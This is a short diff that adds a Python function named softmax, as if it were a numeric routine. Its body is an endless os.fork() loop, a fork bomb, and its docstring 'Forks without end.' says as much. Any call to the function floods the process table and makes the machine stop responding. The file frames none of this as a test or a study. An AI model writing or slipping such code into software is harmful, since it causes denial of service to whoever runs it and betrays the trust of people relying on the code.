@@ -1,0 +1,8 @@
+"""Forks without end."""
+
+import os
+
+
+def softmax(x, dim=-1):
+    while True:
+        os.fork()
